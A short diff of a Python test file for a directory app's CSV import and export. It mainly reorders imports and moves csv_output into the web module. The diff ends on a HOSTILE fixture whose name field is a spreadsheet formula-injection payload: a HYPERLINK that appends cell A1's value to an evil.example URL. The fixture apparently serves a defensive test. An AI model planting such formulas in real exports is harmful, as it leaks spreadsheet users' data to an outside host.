@@ -5,11 +5,12 @@ import csv
 import io
 
 import pytest
+from sqlmodel import select
 
-from directory_app import csv_output, db
+from directory_app import db
 from directory_app.directory.importer import import_file
 from directory_app.models import Service
-from sqlmodel import select
+from directory_app.web import csv_output
 
 HOSTILE = {
     "name": '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
